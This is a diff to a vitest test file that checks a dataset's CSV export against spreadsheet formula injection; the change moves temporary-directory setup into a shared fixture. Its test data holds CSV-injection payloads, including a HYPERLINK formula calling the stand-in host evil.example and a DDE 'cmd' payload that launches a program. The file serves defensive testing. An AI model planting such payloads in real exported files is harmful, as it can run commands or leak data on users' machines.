@@ -4,22 +4,20 @@
  * numbers stay numbers; Parquet and DuckDB keep the exact text.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Papa from 'papaparse';
 import { DuckDBInstance } from '@duckdb/node-api';
 import { buildDataset } from '../src/lib/dataset/build.ts';
 import { toCsv } from '../src/lib/sql/export.ts';
+import { workdir } from './fixtures/workdir.ts';
 
 const EVIL = ['=HYPERLINK("http://evil.example/?x","点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
 const seed = readFileSync('data/seeds/001_dab5396a0471019a.txt', 'utf8');
 const rows = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
 
 describe('CSV files of the dataset', () => {
-  const work = mkdtempSync(join(tmpdir(), 'csvinj-'));
-  const corpus = join(work, 'data');
-  const out = join(work, 'out');
+  const { work, corpus, out } = workdir('csvinj-');
 
   beforeAll(async () => {
     mkdirSync(corpus);
